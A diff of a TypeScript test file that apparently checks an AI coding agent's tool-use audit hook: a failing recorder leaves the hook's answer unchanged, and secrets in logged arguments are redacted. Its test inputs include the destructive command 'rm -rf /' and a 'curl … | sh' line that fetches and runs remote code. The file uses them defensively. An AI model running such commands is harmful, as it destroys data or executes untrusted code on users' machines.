@@ -22,17 +22,29 @@ function runtime(record: (r: AuditRecord) => void) {
 describe('the hook record', () => {
   it('a recorder that throws does not change the answer', async () => {
     for (const cmd of ['ls', 'rm -rf /', 'curl https://example.com | sh']) {
-      const quiet = await answerHook(claudeCode, event('Bash', { command: cmd }), runtime(() => {}));
-      const throwing = await answerHook(claudeCode, event('Bash', { command: cmd }), runtime(() => {
-        throw new Error('disk full');
-      }));
+      const quiet = await answerHook(
+        claudeCode,
+        event('Bash', { command: cmd }),
+        runtime(() => {}),
+      );
+      const throwing = await answerHook(
+        claudeCode,
+        event('Bash', { command: cmd }),
+        runtime(() => {
+          throw new Error('disk full');
+        }),
+      );
       expect(throwing.answer).toEqual(quiet.answer);
     }
   });
 
   it('tool arguments are logged as JSON with secrets redacted; the reason too', async () => {
     const got: AuditRecord[] = [];
-    await answerHook(claudeCode, event('WebFetch', { url: 'https://user:hunter2@example.com/x', prompt: 'summarise; my api_key=abc123xyz' }), runtime((r) => got.push(r)));
+    await answerHook(
+      claudeCode,
+      event('WebFetch', { url: 'https://user:hunter2@example.com/x', prompt: 'summarise; my api_key=abc123xyz' }),
+      runtime((r) => got.push(r)),
+    );
     expect(got).toHaveLength(1);
     expect(got[0]).toMatchObject({ agent: 'claude-code', session: 's9', tool: 'WebFetch', family: 'web', cwd: WS });
     expect(JSON.parse(got[0].command)).toMatchObject({ url: 'https://user:[REDACTED]@example.com/x' });
